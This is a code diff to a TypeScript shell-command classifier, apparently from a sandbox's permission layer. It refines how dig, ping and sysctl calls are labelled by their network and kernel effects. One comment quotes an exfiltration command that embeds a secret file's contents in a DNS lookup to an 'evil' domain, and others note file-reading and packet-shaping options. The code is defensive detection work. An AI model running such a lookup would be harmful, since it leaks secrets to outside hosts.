@@ -141,6 +141,10 @@ const ip: Handler = (call) => {
 const lookup: Handler = (call) => {
   // A name that expands can carry data out in the question itself (`dig "$(cat secret).evil"`).
   if (call.argv.slice(1).some((w) => w.value === undefined)) return [opaque(call, "network probe", "a name that expands could carry data out in the lookup")];
+  // dig -f FILE / -k KEYFILE send a file's lines to the server; ping -p carries a pattern, -f floods.
+  if (call.argv.slice(1).some((w) => /^-[a-zA-Z]*[fkpi]/.test(w.value!) && !w.value!.startsWith("--"))) return [opaque(call, "network probe", "an option that reads a file or shapes the packets")];
+  const servers = call.argv.slice(1).flatMap((w) => (w.value!.startsWith("@") ? [w.value!.slice(1)] : []));
+  if (servers.length > 0) return [effect(call, "read", "network probe", "sends a lookup"), ...servers.map((h) => effect(call, "remote", "dns @server", `asks ${h}`, { reaches: h }))];
   const names = call.argv.slice(1).map((w) => w.value).filter((v): v is string => v !== undefined && !v.startsWith("-") && !v.startsWith("@") && !/^\d+$/.test(v));
   return [effect(call, "read", "network probe", "sends a probe and reads the answer"), ...names.map((h) => effect(call, "read", "network probe", `probes ${h}`, { reaches: h }))];
 };
@@ -153,8 +157,12 @@ const sysctl: Handler = (call) => {
   const words = call.argv.slice(1).map((w) => w.value);
   if (words.some((w) => w === undefined)) return [opaque(call, "sysctl", "a setting that expands cannot be told apart")];
   const args = words as string[];
-  if (args.some((a) => /^(-[a-zA-Z]*p|--load|--system)/.test(a) || /^\/?net[./]/.test(a.replace(/^-w/, "")) && a.includes("="))) return [effect(call, "network", "sysctl net", "changes kernel network settings")];
+  // -p, -f (procps' alias) and any prefix of --load / --system load files of settings.
+  const loads = (a: string) => /^-[a-zA-Z]*[pf]/.test(a) && !a.startsWith("--") || (a.startsWith("--") && a.length > 3 && ["--load", "--system"].some((o) => o.startsWith(a.split("=")[0]!)));
+  if (args.some((a) => loads(a) || (/^\/?net[./]/.test(a) && a.includes("=")))) return [effect(call, "network", "sysctl net", "changes kernel network settings")];
   if (args.some((a) => a.includes("=") || /^-[a-zA-Z]*w/.test(a) || a === "--write")) return [effect(call, "server", "sysctl -w", "changes a kernel setting")];
+  // Reading: only -a, -n, -e, -N, -q, -b and keys.
+  if (args.some((a) => a.startsWith("-") && !/^-[aneNqb]+$/.test(a) && !["--all", "--values", "--names"].includes(a))) return [opaque(call, "sysctl", "only the reading options of sysctl are in the vocabulary")];
   return [effect(call, "read", "sysctl", "reads kernel settings")];
 };
 
